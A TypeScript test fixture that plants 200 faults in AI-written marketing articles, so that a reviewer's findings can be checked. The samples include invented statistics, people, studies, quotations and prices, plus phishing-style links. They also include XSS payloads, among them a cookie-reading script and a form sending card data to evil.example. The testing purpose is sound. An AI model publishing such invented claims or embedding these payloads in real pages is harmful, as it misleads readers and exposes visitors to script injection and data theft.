/**
 * Two hundred faults that a model can make, twenty kinds of ten, each planted in an honest article. None may
 * be published, and the finding must contain its mark, so that a reviser knows what to change.
 */
import type { RawDraft } from '#writer/draft.ts';
import { ALTERED_QUOTATIONS, HIDDEN_IN_PAGE, HIDDEN_IN_TESTIMONIAL, OWNED_KEYWORDS } from './world.ts';

export interface Fault {
  id: string;
  kind: string;
  /** Words that the finding must contain; '' for faults of the whole article. */
  mark: string;
  plant: (draft: RawDraft, earlier: RawDraft) => RawDraft;
}

export function insert(draft: RawDraft, sentence: string): RawDraft {
  const paragraphs = draft.content.split('\n\n');
  const places = paragraphs.flatMap((paragraph, index) =>
    /^[A-Z].{120,}[.]$/s.test(paragraph) ? [index] : [],
  );
  const place = places[Math.floor(places.length / 2)] ?? 0;
  paragraphs[place] = `${paragraphs[place]} ${sentence}`;
  return { ...draft, content: paragraphs.join('\n\n') };
}

const said = (kind: string, list: Array<[mark: string, sentence: string]>): Fault[] =>
  list.map(([mark, sentence], index) => ({
    id: `${kind} ${index + 1}`,
    kind,
    mark,
    plant: (draft) => insert(draft, sentence),
  }));

const numbers = said('an invented number', [
  ['73%', 'In our experience, 73% of the ideas that arrive are too large.'],
  ['2,300', 'More than 2,300 apps have been built this way so far.'],
  ['47', 'A first list usually has 47 wishes on it.'],
  ['18', 'The average owner saves 18 hours a week with the finished app.'],
  ['6.5', 'Teams that plan first are 6.5 points happier with the result.'],
  ['350', 'An app like this can serve 350 guests on a Saturday.'],
  ['41', 'It pays for itself after 41 bookings.'],
  ['12,000', 'Last year, 12,000 people looked for exactly this.'],
  ['85 percent', 'About 85 percent of first versions survive their first month.'],
  ['1.4 million', 'The market for tools like this has 1.4 million buyers.'],
]);

const shares = said('a share in words', [
  ['three out of four owners', 'As a rule, three out of four owners forget the confirmation message.'],
  ['nine in ten', 'We see nine in ten projects stall before the first screen.'],
  ['Most of the small businesses', 'Most of the small businesses never open their own statistics.'],
  ['hundreds of happy clients', 'This is how hundreds of happy clients began.'],
  ['thousands of users', 'An app built this way serves thousands of users without trouble.'],
  ['two thirds of all projects', 'Delays hit two thirds of all projects before launch.'],
  ['forty percent', 'Reminders cut the calls by forty percent in the first week.'],
  ['five times more', 'Owners who prepare get five times more out of the hour.'],
  ['a quarter of the customers', 'Expect that a quarter of the customers will not come back.'],
  ['half of our clients', 'In practice half of our clients book again within the month.'],
]);

const people = said('an invented person', [
  ['Sarah Mitchell', 'When Sarah Mitchell brought her idea, it fitted on a napkin.'],
  ['Tom Becker', 'The plumber Tom Becker did exactly this with his order list.'],
  ['Priya Raman', 'Ask Priya Raman, who replaced her paper calendar in one evening.'],
  ['Elena Kovac', 'It is the method that Dr. Elena Kovac teaches her patients.'],
  ['Marcus Hale', 'A developer like Marcus Hale would start with the form.'],
  ['Jennifer Osei', 'In the words of the salon owner Jennifer Osei, less is more.'],
  ['Luca Ferrante', 'The baker Luca Ferrante keeps his orders in such a list.'],
  ['Anna Lindqvist', 'Her accountant Anna Lindqvist had asked for it for years.'],
  ['Robert Chen', 'The investor Robert Chen looks for one workflow first.'],
  ['Maria Delgado', 'For the coach Maria Delgado the calendar was the bottleneck.'],
]);

const companies = said('an invented company or place', [
  ['Harborview Dental', 'The practice Harborview Dental began with a single form.'],
  ['Gartner', 'The analysts at Gartner call this the citizen developer.'],
  ['Bluestone Fitness', 'A studio such as Bluestone Fitness needs little more than that.'],
  ['McKinsey', 'Consultants from McKinsey would draw a diagram first.'],
  ['Northwind Traders', 'At Northwind Traders the same list had lived on a whiteboard.'],
  ['Forbes', 'The idea has even been praised in Forbes and elsewhere.'],
  ['Kettle & Rye', 'The café Kettle & Rye takes its orders this way.'],
  ['Stanford', 'Students at Stanford learn to draw the screens first.'],
  ['Maple Ridge', 'A garage in Maple Ridge uses it for its repairs.'],
  ['TechCrunch', 'You may have read about it in TechCrunch already.'],
]);

const studies = said('an invented study', [
  ['A recent study', 'A recent study shows that short projects are finished more often.'],
  ['Research shows', 'Research shows that people remember apps with fewer screens.'],
  ['According to a survey', 'According to a survey of shop owners, reminders are what customers miss.'],
  ['Experts agree', 'Experts agree that a first version should have no settings.'],
  ['studies have found', 'Several studies have found that forms with few fields convert better.'],
  ['Industry reports', 'Industry reports suggest that small tools replace large suites.'],
  ['statistics show', 'The statistics show that owners rarely look back after such a change.'],
  ['A university study', 'A university study confirms that watching the work builds trust.'],
  ['the latest research', 'This is in line with the latest research on decision making.'],
  ['analysts estimate', 'Meanwhile analysts estimate that spreadsheets cause most errors.'],
]);

const altered: Fault[] = ALTERED_QUOTATIONS.map(([quotation, sentence], index) => ({
  id: `an altered quotation ${index + 1}`,
  kind: 'an altered quotation',
  mark: quotation,
  plant: (draft) => insert(draft, sentence),
}));

const quotations = said('an invented quotation', [
  [
    'I never thought it would be this easy',
    'One guest said: "I never thought it would be this easy to get a real app."',
  ],
  ['we would book it again tomorrow', 'A client told us "we would book it again tomorrow" and meant it.'],
  [
    'the best hour I spent on my business',
    'It was, as an owner put it, "the best hour I spent on my business this year".',
  ],
  ['my staff cried with relief', 'The manager said "my staff cried with relief" when the list was gone.'],
  ['it paid for itself', 'A roofer said "it paid for itself" before the week was over.'],
  ['You saved my bakery', 'The shortest message was "You saved my bakery", said a reader.'],
  ['like watching somebody think out loud', 'A guest says it is "like watching somebody think out loud".'],
  ['no agency ever listened like that', 'An owner wrote "no agency ever listened like that" in the evening.'],
  [
    'finally something that works on my phone',
    'He said "finally something that works on my phone" and left.',
  ],
  [
    'I own the code and I sleep better',
    'She explained it: "I own the code and I sleep better at night now."',
  ],
]);

const dates = said('an invented date', [
  ['March 14', 'The first session of this kind was held on March 14.'],
  ['June 2019', 'We have worked this way since June 2019.'],
  ['2017', 'The method was described in 2017 for the first time.'],
  ['January 5, 2024', 'New rules for reminders apply from January 5, 2024 on.'],
  ['1998', 'It is an idea from 1998 that still holds.'],
  ['October 31', 'Book before October 31 to be ready for the season.'],
  ['2031', 'By 2031 nobody will fill in paper forms.'],
  ['2024-02-29', 'The figures are as of 2024-02-29 and still hold.'],
  ['12 December', 'The next change comes on 12 December for everyone.'],
  ['April 2022', 'The tool was rebuilt in April 2022 from scratch.'],
]);

const link = (mark: string, sentence: string): [string, string] => [mark, sentence];
const dead = said('a dead link', [
  link(
    '/blog/how-to-write-a-brief-in-ten-steps',
    'More in [our guide](/blog/how-to-write-a-brief-in-ten-steps).',
  ),
  link('/prices', 'See [all prices](/prices) first.'),
  link('/case-studies', 'There are [case studies](/case-studies) for this.'),
  link('/booking/europe', 'You can also [book in Europe](/booking/europe).'),
  link('/features', 'It is one of the [features](/features) you get.'),
  link('/blog/2023-review', 'We wrote about it [last year](/blog/2023-review).'),
  link('/contact-us', 'Simply [contact us](/contact-us) before you start.'),
  link('/team', 'Meet [the team](/team) that does the work.'),
  link('/faq', 'The [questions](/faq) are answered elsewhere.'),
  link('/downloads/checklist.pdf', 'Print [the checklist](/downloads/checklist.pdf) for it.'),
]);

const foreign = said('a link to another site', [
  link('https://cheap-apps.example', 'Compare with [this offer](https://cheap-apps.example).'),
  link('http://tracking.example/?id=1', 'Read [the source](http://tracking.example/?id=1) yourself.'),
  link('https://www.statista.com/app-market', 'The figures are [here](https://www.statista.com/app-market).'),
  link('//evil.example/x', 'There is [a template](//evil.example/x) for it.'),
  link('javascript:alert(1)', 'Open [the example](javascript:alert(1)) right away.'),
  link('https://medium.com/@someone/post', 'Somebody described it [well](https://medium.com/@someone/post).'),
  link('offers@example.com', 'Write to [the agent](mailto:offers@example.com) for a price.'),
  link('data:text/html,hi', 'Look at [the demo](data:text/html,hi) before you decide.'),
  link('ftp://files.example/app.zip', 'The code is [here](ftp://files.example/app.zip).'),
  link('https://xn--80ak6aa92e.example', 'Sign in [here](https://xn--80ak6aa92e.example) to see it.'),
]);

const tiers = said('a price of another tier', [
  ['$150', 'An offshore developer costs $150 for the session.'],
  ['$120', 'A USA-based developer works for $120 an hour with you.'],
  ['$120', 'A session with a developer from the US is $120 in all. The US-based session costs $120.'],
  ['$150', 'The offshore session is $150, with the same hour of work.'],
  ['$99', 'An extra hour costs $99 per hour in either case.'],
  ['$120/month', 'Hosting is $120/month for the finished app.'],
  ['$150 per month', 'You can keep it running for $150 per month afterwards.'],
  ['$120', 'A US developer charges $120 for the hour.'],
  ['$150', 'Our offshore developers take $150 for an hour.'],
  ['$150', 'With the offshore tier you pay $150 once.'],
]);

const prices = said('an invented price', [
  ['$49', 'There is a small package for $49 as well.'],
  ['$99', 'The first session is $99 for new clients. Pay $99 today.'],
  ['€110', 'In Europe the same hour is €110 for everybody.'],
  ['$1,500', 'A complete shop is built for $1,500 as a package.'],
  ['$200', 'Weekend sessions cost $200 because they are rare.'],
  ['20%', 'Members get 20% off every session.'],
  ['$20', 'A second round of edits costs $20 on top.'],
  ['$75', 'Students pay $75 for the same hour.'],
  ['£95', 'The hour costs £95 in London.'],
  ['$3k', 'Anything larger starts at $3k with us.'],
]);

const promises = said('an invented promise', [
  ['free consultation', 'Every project begins with a free consultation by telephone.'],
  ['award-winning', 'The work is done by an award-winning team.'],
  ['money-back', 'There is a money-back guarantee on every hour.'],
  ['guaranteed results', 'You get guaranteed results in the first hour.'],
  ['trusted by', 'It is trusted by Fortune 500 companies and small shops alike.'],
  ['five-star', 'Read the five-star reviews before you decide.'],
  ['lifetime support', 'The price includes lifetime support for the app.'],
  ['unlimited revisions', 'You get unlimited revisions until you are happy.'],
  ['every app', 'With preparation, every app can be finished in one hour.'],
  ['free trial', 'Start with a free trial and decide later.'],
]);

const hidden = (kind: string, list: readonly string[]) =>
  list.map(
    (sentence, index): Fault => ({
      id: `${kind} ${index + 1}`,
      kind,
      mark: sentence.split(' ').slice(0, 4).join(' '),
      plant: (draft) => insert(draft, sentence),
    }),
  );

const repeats: Fault[] = Array.from({ length: 10 }, (_, index) => ({
  id: `a near-duplicate ${index + 1}`,
  kind: 'a near-duplicate',
  mark: '',
  plant: (draft, earlier) =>
    index < 3
      ? { ...draft, title: earlier.title }
      : { ...draft, content: shortened(earlier.content, index, draft.content) },
}));

function shortened(content: string, index: number, other: string): string {
  const paragraphs = content.split('\n\n');
  const own = other.split('\n\n');
  const opening = own[0] ?? '';
  return [opening, ...paragraphs.slice(1)]
    .map((paragraph, place) =>
      place % (index + 6) === index % 5 && !paragraph.startsWith('#') && place > 3
        ? (own.filter((each) => !each.startsWith('#'))[place % 8] ?? paragraph)
        : paragraph,
    )
    .join('\n\n');
}

const owned: Fault[] = OWNED_KEYWORDS.map((keyword, index) => ({
  id: `a keyword of another post ${index + 1}`,
  kind: 'a keyword of another post',
  mark: keyword,
  plant: (draft) => ({
    ...draft,
    title: `${keyword}: ${draft.title.replace(/^[^:]*:\s*/, '')}`.slice(0, 105),
  }),
}));

const html: Fault[] = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">the price list</a>',
  '<form action="https://evil.example"><input name=card></form>',
  '<svg onload=alert(1)></svg>',
  '<style>body{display:none}</style>',
  '<object data="https://evil.example/x.swf"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<b onclick="steal()">Read on</b>',
].map((markup, index) => ({
  id: `unsafe HTML ${index + 1}`,
  kind: 'unsafe HTML',
  mark: markup,
  plant: (draft) => insert(draft, `It is simple. ${markup} You will see.`),
}));

const cut: Fault[] = Array.from({ length: 10 }, (_, index) => ({
  id: `an answer cut off ${index + 1}`,
  kind: 'an answer cut off',
  mark: '',
  plant: (draft) => ({ ...draft, content: cutAt(draft.content, index) }),
}));

function cutAt(content: string, index: number): string {
  const trimmed = content.trimEnd();
  if (index === 0) return trimmed.replace(/[.!?]$/, '').slice(0, -9);
  if (index === 1) return `${trimmed}\n\n## What comes after that`;
  // Cuts within a word or a sentence, increasingly early; most of the text stays.
  const at = Math.floor(trimmed.length * (1 - index * 0.012));
  const part = trimmed.slice(0, at).replace(/[\s.!?:;,"')\]]+$/, '');
  return part.endsWith('.') ? part.slice(0, -1) : part;
}

const languages: Fault[] = [
  'Ein gutes Werkzeug macht genau eine Sache richtig und lässt alles andere weg, weil niemand die übrigen Funktionen jemals öffnen wird, nicht einmal am Sonntag.',
  'Un buen punto de partida es escribir en una hoja lo que pasa cuando llega un cliente nuevo, paso por paso, sin pensar todavía en pantallas ni botones.',
  'Une bonne application commence par une seule tâche répétée chaque matin par la même personne, que tout le monde trouve ennuyeuse et que personne ne note.',
  'Un buon inizio consiste nel descrivere che cosa succede quando arriva un cliente, chi scrive il suo nome e dove finisce quel foglio alla sera.',
  'Dobry początek to kartka papieru, na której zapisujesz, co robi klient, zanim zadzwoni, i co robisz ty, kiedy już odłoży słuchawkę po rozmowie.',
  '一个好的应用程序只做一件事，并且每天都做得很好，因为没有人会打开其他的功能，即使是在星期天也不会。',
  'Хорошее приложение делает одно дело каждый день и делает его правильно, потому что остальные функции никто никогда не откроет, даже в воскресенье вечером.',
  'Bir uygulama her gün aynı işi yapan tek kişiye yardım ederek başlar, çünkü diğer özellikleri hiç kimse pazar akşamı bile açmayacaktır, bunu unutmayın.',
  'Een goed begin is een vel papier waarop staat wat een klant doet voordat hij belt en wat jij doet nadat hij heeft opgehangen, zonder knoppen of schermen.',
  'Uma boa aplicação começa com uma única tarefa que a mesma pessoa repete todas as manhãs e que ninguém mais quer fazer, nem mesmo aos domingos à noite.',
].map((paragraph, index) => ({
  id: `another language ${index + 1}`,
  kind: 'another language',
  mark: paragraph.slice(0, 8),
  plant: (draft) => {
    const paragraphs = draft.content.split('\n\n');
    const place = paragraphs.findIndex((each, at) => at > 4 && each.startsWith('## '));
    paragraphs.splice(place, 0, paragraph);
    return { ...draft, content: paragraphs.join('\n\n') };
  },
}));

export const faults: readonly Fault[] = [
  ...numbers,
  ...shares,
  ...people,
  ...companies,
  ...studies,
  ...altered,
  ...quotations,
  ...dates,
  ...dead,
  ...foreign,
  ...tiers,
  ...prices,
  ...promises,
  ...hidden('an instruction in a page, obeyed', HIDDEN_IN_PAGE),
  ...hidden("an instruction in a guest's story, obeyed", HIDDEN_IN_TESTIMONIAL),
  ...repeats,
  ...owned,
  ...html,
  ...cut,
  ...languages,
];
